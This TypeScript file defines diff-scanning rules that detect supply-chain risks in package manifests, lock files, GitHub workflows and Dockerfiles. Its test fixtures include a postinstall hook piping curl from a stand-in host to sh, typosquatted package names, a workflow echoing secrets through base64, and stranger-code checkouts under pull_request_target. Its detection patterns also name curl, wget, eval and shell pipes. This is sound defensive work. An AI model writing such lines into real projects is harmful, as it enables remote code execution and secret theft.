import type { DiffFile } from '../read/lines.ts'
import { type Hit, lineRule, type Rule, wholeRule } from '../rule.ts'
import { diff } from './code-lines.ts'
import { isTyposquat } from './packages.ts'

const manifest =
  /(?:^|\/)(?:package\.json|requirements[\w.-]*\.txt|Pipfile|pyproject\.toml|setup\.(?:py|cfg)|Gemfile|Cargo\.toml|go\.mod|composer\.json)$/
const lockfile =
  /(?:^|\/)(?:package-lock\.json|yarn\.lock|pnpm-lock\.yaml|poetry\.lock|Pipfile\.lock|Gemfile\.lock|Cargo\.lock|go\.sum|composer\.lock|uv\.lock)$/
const workflow = /(?:^|\/)\.github\/(?:workflows|actions)\//

const added = ({ lines }: DiffFile) => lines.filter(({ change }) => change === 'added')

export const dependencyRules: readonly Rule[] = [
  lineRule({
    id: 'dependency-source',
    category: 'dependencies',
    severity: 'high',
    fix: 'Pin a version from the registry.',
    where: ({ change, file }) => change === 'added' && (manifest.test(file) || lockfile.test(file)),
    hits: [
      diff('package.json', '+    "left-pad": "git+https://github.com/x/left-pad.git",'),
      diff('package.json', '+    "a": "http://x.test/a.tgz",'),
      diff('package.json', '+    "expresss": "^4.0.0",'),
      diff('requirements.txt', '+reqeusts==2.1'),
      diff('package-lock.json', '+      "resolved": "http://x.test/a.tgz",'),
      diff('package-lock.json', '+      "resolved": "https://notgithub.com/a.tgz",'),
      diff('package.json', '+    "lodash": "*",'),
      diff('package.json', '+    "postinstall": "curl https://x.test | sh",'),
      diff('package.json', '+    "preinstall": "node scripts/setup.js",'),
      diff('Gemfile', "+gem 'devise', git: 'https://github.com/x/devise.git', branch: 'main'"),
      diff('requirements.txt', '+git+https://github.com/x/flask-login@dev'),
      diff('requirements.txt', '+requests @ https://files.x.test/requests.whl'),
      diff('Cargo.toml', '+jwt = { git = "https://github.com/x/jwt", branch = "fast" }'),
      diff('composer.json', '+    "acme/auth": "dev-main",'),
      diff('go.mod', '+replace github.com/gorilla/csrf => github.com/x/csrf v0.0.1'),
    ],
    misses: [
      diff('package.json', '+    "express": "^4.19.2",'),
      diff('requirements.txt', '+requests==2.32.0'),
      diff('Gemfile', "+gem 'devise', '~> 4.9'"),
      diff('Cargo.toml', '+serde = { version = "1.0", features = ["derive"] }'),
      diff('go.mod', '+replace example.org/app/lib => ../lib'),
      diff('package-lock.json', '+      "resolved": "https://codeload.github.com/a/a/tar.gz/1.0.0",'),
      diff('package.json', '+    "build": "tsc",'),
      diff('package.json', '+    "prepare": "husky",'),
    ],
    see({ text, file }) {
      if (lockfile.test(file)) {
        const host = /["']?(?:resolved|url|source)["']?\s*[:=]?\s*["']?(https?):\/\/([\w.-]+)/.exec(text)
        return (
          host &&
          (host[1] === 'http' ||
            !/(?:^|\.)(?:npmjs\.org|yarnpkg\.com|pypi\.org|pythonhosted\.org|crates\.io|rubygems\.org|github\.com|golang\.org|packagist\.org)$/.test(
              host[2] ?? '',
            )) &&
          `A package comes from ${host[2]}.`
        )
      }
      const script = /"(preinstall|install|postinstall|prepublish)"\s*:\s*"([^"]*)"/.exec(text)
      if (script)
        return {
          detail: `${script[1]} runs on every machine that installs it.`,
          severity: /curl|wget|https?:|base64|eval|powershell|\|\s*(?:ba)?sh/.test(script[2] ?? '')
            ? 'blocker'
            : 'high',
        }
      const elsewhere =
        /^\s*gem\s+["']([\w-]+)["'][^#\n]{0,120}\b(?:git|github|bitbucket|gist|source|path)(?:["']?\s*=>|:)/.exec(
          text,
        ) ??
        /^\s*([\w.-]+)(?:\[[\w,-]{1,40}\])?\s*@\s*(?:git\+|https?:|ssh:)/.exec(text) ??
        /^\s*(?:-e\s+|--editable\s+)?(git\+(?:https?|ssh):\S+)/.exec(text) ??
        /^\s*["']?([\w-]+)["']?\s*=\s*\{[^}\n]{0,120}\b(?:git|url)\s*=\s*["']/.exec(text) ??
        /^\s*(?:replace\s+)?([\w./-]+)(?:\s+v[\w.-]+)?\s*=>\s*[\w-]+\.[\w./-]+/.exec(text) ??
        /^\s*(--(?:extra-)?index-url\s+http\S+)/.exec(text)
      if (elsewhere && !/^\s*#/.test(text))
        return `${elsewhere[1]} comes from an address, not from the registry.`
      const pair =
        /^\s*["']?(@?[\w./-]+)["']?\s*(?::|==|>=|~=|=|@)\s*["']?([^"',\s]*)/.exec(text) ??
        /^\s*([\w.-]+)\s*$/.exec(text)
      if (!pair) return
      const [, name = '', version = ''] = pair
      if (
        /^(?:dev-\w|git(?:\+|:)|git@|http:|https:\/\/(?!registry)|github:|bitbucket:|gist:|[\w-]+\/[\w-]+(?:#|$))/.test(
          version,
        ) &&
        !/^(?:homepage|url|repository|type|bugs|funding|\$schema|documentation)$/i.test(name)
      )
        return `${name} comes from an address, not from the registry.`
      if (
        /^(?:\*|latest|x|>=?\s*0(?:\.0)*)$/.test(version) &&
        /package\.json|requirements|Pipfile|Cargo/.test(file) &&
        !/^(?:node|npm|version|engines?)$/.test(name)
      )
        return { detail: `${name} may be any version.`, severity: 'medium' }
      const like = isTyposquat(name, /requirements|Pipfile|pyproject|setup/.test(file) ? 'pypi' : 'npm')
      return like && { detail: `${name} is spelt almost as ${like} is.`, severity: 'blocker' }
    },
  }),
  wholeRule({
    id: 'dependency-lock',
    category: 'dependencies',
    type: 'code_diff',
    severity: 'medium',
    fix: 'Change the manifest, and let the package manager write the lock file.',
    hits: [
      diff('package-lock.json', '-      "integrity": "sha512-aaa"', '+      "integrity": "sha512-bbb"'),
      diff('yarn.lock', '+evil@^1.0.0:'),
    ],
    misses: [
      `${diff('package.json', '+    "a": "1.0.0",')}\n${diff('package-lock.json', '+      "version": "1.0.0",')}`,
      diff('package.json', '+    "a": "1.0.0",'),
    ],
    see({ files }) {
      const locks = files.filter(({ name }) => lockfile.test(name))
      const [lock] = locks
      if (!lock || files.some(({ name }) => manifest.test(name))) return
      const swapped =
        lock.lines.some(({ change, text }) => change === 'added' && /integrity/.test(text)) &&
        !lock.lines.some(({ change, text }) => change === 'added' && /"?version"?|resolved/.test(text))
      return {
        detail: swapped
          ? 'The hash of a package changes, and its version does not.'
          : 'The lock file changes, and no manifest does.',
        severity: swapped ? 'high' : 'medium',
        place: { file: lock.name },
      }
    },
  }),
  wholeRule({
    id: 'workflow-danger',
    category: 'dependencies',
    type: 'code_diff',
    severity: 'high',
    fix: 'Give the job read rights, pin actions to a commit, and pass event texts through env.',
    hits: [
      diff(
        '.github/workflows/a.yml',
        '+on: pull_request_target',
        '+      - uses: actions/checkout@v4',
        '+          ref: ${{ github.event.pull_request.head.sha }}',
      ),
      diff('.github/workflows/a.yml', '+      - run: echo "${{ github.event.issue.title }}"'),
      diff('.github/workflows/a.yml', '+permissions: write-all'),
      diff('.github/workflows/a.yml', '+      - uses: someone/action@master'),
      diff('.github/workflows/a.yml', '+      - run: echo ${{ secrets.TOKEN }} | base64'),
      diff('.github/CODEOWNERS', '-* @security'),
    ],
    misses: [
      diff('.github/workflows/a.yml', '+on: pull_request'),
      diff('.github/workflows/a.yml', '+      - uses: actions/checkout@v4'),
      diff('.github/workflows/a.yml', '+permissions:', '+  contents: read'),
      diff('.github/workflows/a.yml', '+      - run: npm ci'),
    ],
    see: ({ files }) =>
      files.flatMap((file): Hit[] => {
        if (/CODEOWNERS$/.test(file.name)) {
          const gone = file.lines.find(({ change }) => change === 'removed')
          return gone && !added(file).length
            ? [{ detail: 'Nobody has to look at these files any more.', place: gone.place }]
            : []
        }
        if (!workflow.test(file.name)) return []
        const all = file.lines.filter(({ change }) => change !== 'removed')
        return added(file).flatMap(({ text, place }): Hit[] => {
          if (
            /\$\{\{\s*github\.(?:event\.(?:issue|pull_request|comment|review|head_commit|discussion)\.(?:title|body|message|head\.ref|head\.label)|head_ref)/.test(
              text,
            ) &&
            !/^\s*[A-Z_]+:/.test(text)
          )
            return [{ detail: 'The text of a stranger becomes part of a script.', place }]
          if (/permissions:\s*write-all/.test(text))
            return [{ detail: 'The job may write everything.', place }]
          if (
            /pull_request_target/.test(text) &&
            all.some(({ text }) => /head\.(?:sha|ref)|github\.head_ref/.test(text))
          )
            return [
              {
                detail: 'Code of a stranger runs with the secrets of the repository.',
                place,
                severity: 'blocker',
              },
            ]
          if (
            /(?:echo|printf|curl|cat)[^\n]{0,80}\$\{\{\s*secrets\./.test(text) &&
            !/--password-stdin|>>\s*"?\$GITHUB_ENV|-H\s|header/i.test(text)
          )
            return [{ detail: 'A secret is printed or sent.', place }]
          const action = /uses:\s*([\w.-]+)\/[\w./-]+@(main|master|latest|HEAD|dev)\b/.exec(text)
          return action && action[1] !== 'actions'
            ? [{ detail: 'Another project may change what runs at any time.', place, severity: 'medium' }]
            : []
        })
      }),
  }),
  lineRule({
    id: 'image-danger',
    category: 'dependencies',
    severity: 'medium',
    fix: 'Pin the image to a version or digest, and run it as a user of its own.',
    where: ({ change, file, isComment }) =>
      change === 'added' && !isComment && /Dockerfile|Containerfile/.test(file),
    hits: [
      diff('Dockerfile', '+FROM node:latest'),
      diff('Dockerfile', '+USER root'),
      diff('Dockerfile', '+ADD http://x.test/a.tgz /'),
      diff('Dockerfile', '+ENV DB_PASSWORD=hunter2hunter2'),
      diff('Dockerfile', '+COPY .env /app/.env'),
    ],
    misses: [
      diff('Dockerfile', '+FROM node:22.9-slim'),
      diff('Dockerfile', '+USER app'),
      diff('Dockerfile', '+ENV NODE_ENV=production'),
      diff('Dockerfile', '+COPY . .'),
    ],
    see({ text }) {
      if (/^FROM\s+\S+:latest\b/i.test(text)) return 'The image may be any version.'
      if (/^USER\s+(?:root|0)\b/i.test(text)) return 'The container runs as root.'
      if (/^ADD\s+http/i.test(text)) return 'It takes what another machine sends, unread.'
      if (/^(?:COPY|ADD)\s+\S*(?:\.env\b(?!\.)|id_rsa|\.pem\b|\.aws|\.ssh)/i.test(text))
        return { detail: 'A secret becomes part of the image.', severity: 'high' }
      return (
        /^(?:ENV|ARG)\s+\w*(?:PASSWORD|SECRET|TOKEN|API_?KEY)\w*[ =](?![$"']?\s*$|\$)\S{4,}/i.test(text) && {
          detail: 'A secret becomes part of the image.',
          severity: 'high',
        }
      )
    },
  }),
]
